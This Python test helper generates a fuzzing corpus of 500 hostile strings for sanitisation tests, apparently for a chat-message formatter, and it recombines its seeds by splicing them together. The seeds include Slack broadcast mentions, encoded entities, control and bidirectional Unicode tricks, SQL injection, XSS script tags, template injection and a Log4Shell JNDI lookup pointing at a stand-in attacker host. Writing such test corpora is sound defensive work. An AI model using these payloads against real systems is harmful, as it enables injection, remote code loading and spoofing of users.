"""500 strings that hackers put into titles, names and quotes. The same ones every time."""

import random

SEEDS = (
    "<!channel>", "<!here|here>", "<!everyone>", "@channel", "@here now", "<@U0123ABCD>",
    "<!subteam^S0123|oncall>", "<#C0123|general>", "<!date^1392734382^{date}|never>",
    "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "&", "&amp", "&lt", "&;",
    "<https://evil.example|your bank>", "<mailto:a@b.example|write>", "<javascript:alert(1)|x>",
    "https://evil.example/?a=1&b=2|<x>", "www.evil.example", "evil.example", "tel:+100", "<", ">",
    "|", "<|>", "<>", "><", "*bold*", "_it_", "~gone~", "`code`", "```block```", "> quoted",
    "• item", ":tada:", ":skin-tone-2:", "\\n\\r", "line\nline", "line\r\nline", "tab\there",
    "\u2028line\u2029par", "\x00nul", "\x1b[31mred\x1b[0m", "\x07bell", "\x85next", "\ufeffbom",
    "\u202egnp.exe", "\u2066iso\u2069", "\u200bzero\u200b", "\u200dj", "a\u0301" * 40, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙" * 9,
    "\ud800", "\udfff tail", "👩‍👩‍👧‍👦" * 20, "🇮🇳🇬🇧", "侵害を否定", "نفت الشركة", "הכחישה", "ÄÖÜß",
    "\U000e0041tag", "ﷺ" * 30, "𝕬𝖈𝖒𝖊", "Ａｃｍｅ", "''; DROP TABLE alerts;--", "{0}",
    "{organisation}", "%s%n", "${jndi:ldap://evil.example}", "{{7*7}}",
    "<script>alert(1)</script>", "<img src=x>",
    "<!--", "]]>", "<![CDATA[x]]>", "\\", "\\u003c!channel\\u003e", "null", "undefined", "NaN",
    "-1", "1e309", "", " ", "\u00a0", "\u3000", ".", "…", "“", "”", "“”", "\"", "\"\"", "‘a’",
    "“He said \"no” and", "A" * 5000, "<" * 3000, "&" * 3000, "\"" * 400, "word " * 2000,
    "x" * 149 + "<", "é" * 150 + "&", "[link](https://evil.example)", "![x](https://evil.example)",
)  # fmt: skip


def hostile_strings(count: int = 500) -> list[str]:
    """The seeds, and then pairs and splices of them."""
    chance = random.Random(7)
    found = list(dict.fromkeys(SEEDS))
    while len(found) < count:
        one, other = chance.sample(SEEDS, 2)
        at = chance.randrange(len(one) + 1)
        spliced = one[:at] + other + one[at:]
        found += [spliced] if spliced not in found else []
    return found[:count]
